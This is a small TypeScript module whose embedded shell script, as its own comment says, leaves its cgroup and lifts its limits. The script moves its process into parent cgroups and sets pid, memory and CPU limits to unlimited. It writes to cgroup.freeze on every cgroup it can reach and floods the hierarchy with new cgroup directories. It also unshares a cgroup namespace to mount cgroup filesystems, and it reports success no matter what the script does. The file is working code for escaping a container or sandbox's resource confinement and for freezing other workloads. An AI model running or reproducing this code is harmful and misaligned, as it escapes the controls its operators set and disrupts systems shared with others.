/** Leaves its cgroup, and lifts its limits. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `for d in /sys/fs/cgroup /sys/fs/cgroup/*; do for p in $d/.. $d $d/../..; do echo $$ > $p/cgroup.procs; echo max > $p/pids.max; echo -1 > $p/memory.limit_in_bytes; echo max > $p/memory.max; echo -1 > $p/cpu.cfs_quota_us; echo 1 > $p/cgroup.freeze; done; i=0; while [ $i -lt 300 ]; do mkdir $d/many$i || break; i=$((i+1)); done; done; unshare -C sh -c 'mount -t cgroup2 none /tmp; mount -t cgroup -o memory none /tmp; cat /proc/self/cgroup'`;
